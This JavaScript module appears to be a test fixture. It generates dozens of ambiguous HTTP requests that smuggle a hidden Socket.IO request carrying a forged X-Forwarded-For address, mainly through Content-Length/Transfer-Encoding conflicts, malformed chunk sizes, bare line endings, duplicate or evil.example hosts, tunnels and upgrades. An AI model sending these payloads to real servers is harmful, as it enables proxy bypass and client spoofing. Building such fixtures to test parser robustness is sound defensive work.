'use strict';
// Requests that two readers may cut at different places, each with a second request hidden in it.

const POLL = '/socket.io/?EIO=4&transport=polling';
/**
 * The address that the hidden request says it comes from. A proxy adds the true one after it. So the
 * server believes this one only if the request has got there without the proxy's knowledge.
 */
const FORGED = '198.51.100.99';
const HANDSHAKE = 'Connection: Upgrade\r\nUpgrade: websocket\r\n' +
  'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n';

const hidden = (host) => `GET ${POLL} HTTP/1.1\r\nHost: ${host}\r\nX-Forwarded-For: ${FORGED}\r\n\r\n`;

/** All requests, each with its name, for a server with this one. */
function ambiguous(host) {
  const it = hidden(host);
  const size = it.length;
  const inHex = size.toString(16);
  const asked = (start, fields, rest) => {
    const lines = [start, `Host: ${host}`, ...fields].map((line) => `${line}\r\n`);
    return `${lines.join('')}\r\n${rest}`;
  };
  const get = (...fields) => asked('GET /healthz HTTP/1.1', fields, it);
  const post = (...fields) => asked(`POST ${POLL} HTTP/1.1`, fields, it);
  const chunked = (rest) => asked(`POST ${POLL} HTTP/1.1`, ['Transfer-Encoding: chunked'], rest);
  // By the length there is one request, by the chunks there are two.
  const body = `0\r\n\r\n${it}`;
  const length = `Content-Length: ${body.length}`;
  const both = (...fields) => asked(`POST ${POLL} HTTP/1.1`, [length, ...fields], body);
  const requests = {
    'a length, then chunks': both('Transfer-Encoding: chunked'),
    'chunks, then a length': asked(`POST ${POLL} HTTP/1.1`,
      ['Transfer-Encoding: chunked', 'Content-Length: 4'], `${inHex}\r\n${it}\r\n0\r\n\r\n`),
    'an encoding before chunks': both('Transfer-Encoding: x, chunked'),
    'an encoding after chunks': both('Transfer-Encoding: chunked, identity'),
    'an encoding like chunked': both('Transfer-Encoding: xchunked'),
    'an encoding in quotes': both('Transfer-Encoding: "chunked"'),
    'an encoding after a vertical tab': both('Transfer-Encoding: \x0bchunked'),
    'two encodings': both('Transfer-Encoding: chunked', 'Transfer-Encoding: x'),
    'an encoding before a blank and a colon': both('Transfer-Encoding : chunked'),
    'an encoding on a folded line': both('Transfer-Encoding:\r\n chunked'),
    'an encoding that is a folded line': both('X-Fold: a\r\n Transfer-Encoding: chunked'),
    'an encoding after a bare LF': both('X-Line: a\nTransfer-Encoding: chunked'),
    'an encoding after a bare CR': both('X-Line: a\rTransfer-Encoding: chunked'),
    'an encoding after a zero byte': both('X-Line: a\0', 'Transfer-Encoding: chunked'),
    'chunks in HTTP/1.0': asked(`POST ${POLL} HTTP/1.0`,
      ['Connection: keep-alive', length, 'Transfer-Encoding: chunked'], body),
    'two lengths': post('Content-Length: 0', `Content-Length: ${size}`),
    'two lengths, the longer one first': post(`Content-Length: ${size}`, 'Content-Length: 0'),
    'a length twice': post('Content-Length: 0', 'Content-Length: 0'),
    'a list of lengths': post(`Content-Length: 0, ${size}`),
    'a length with a sign': post('Content-Length: +0'),
    'a negative length': post('Content-Length: -1'),
    'a length with a prefix': post(`Content-Length: 0x${inHex}`),
    'a length beyond 64 bits': post('Content-Length: 18446744073709551616'),
    'a length before a blank and a colon': post(`Content-Length : ${size}`),
    'underscores for hyphens': post(`Content_Length: ${size}`, 'Content-Length: 0'),
    'a length that Connection names': post('Connection: Content-Length', `Content-Length: ${size}`),
    'a body that waits for 100': post('Expect: 100-continue', `Content-Length: ${size}`),
    'a body of GET': get(`Content-Length: ${size}`),
    'a chunk size with a prefix': chunked(`0x${inHex}\r\n${it}\r\n0\r\n\r\n`),
    'a chunk size with a sign': chunked(`-1\r\n${it}0\r\n\r\n`),
    'a chunk size beyond 64 bits': chunked(`10000000000000000\r\n\r\n0\r\n\r\n${it}`),
    'chunks that end with a bare LF': chunked(`1\nx\n0\n\n${it}`),
    'an extension with a bare LF': chunked(`2;\nxx\r\n${inHex}\r\n${it}\r\n0\r\n\r\n`),
    'a chunk longer than its size': chunked(`1\r\nxx\r\n0\r\n\r\n${it}`),
    'a length after the last chunk': chunked(`0\r\nContent-Length: ${size}\r\n\r\n${it}`),
    'a head that ends with bare LFs': `GET /healthz HTTP/1.1\nHost: ${host}\n\n${it}`,
    'a blank before the first field': `GET /healthz HTTP/1.1\r\n X: a\r\nHost: ${host}\r\n\r\n${it}`,
    'no version': `GET /healthz\r\nHost: ${host}\r\n\r\n${it}`,
    'a version without a number': asked('GET /healthz HTTP/x.1', [], it),
    'two hosts': get('Host: evil.example'),
    'a target with another host': asked('GET http://evil.example/healthz HTTP/1.1', [], it),
    'a target with two requests': asked(`GET /healthz HTTP/1.1\rGET ${POLL} HTTP/1.1`, [], it),
    'a tunnel': asked(`CONNECT ${host}:443 HTTP/1.1`, [], it),
    'a handshake of another version': get(...`${HANDSHAKE}Sec-WebSocket-Version: 7`.split('\r\n')),
    'a handshake at another place': get(...`${HANDSHAKE}Sec-WebSocket-Version: 13`.split('\r\n')),
    'an upgrade to HTTP/2': get('Connection: Upgrade, HTTP2-Settings', 'Upgrade: h2c',
      'HTTP2-Settings: AAMAAABkAAQAAP__'),
    'a huge head': get(`X-Big: ${'x'.repeat(70_000)}`),
    'a head of many fields': get(...Array(5_000).fill('X: y')),
  };
  return Object.entries(requests)
    .map(([name, text]) => ({ name, bytes: Buffer.from(text, 'latin1') }));
}

module.exports = { FORGED, ambiguous, hidden };
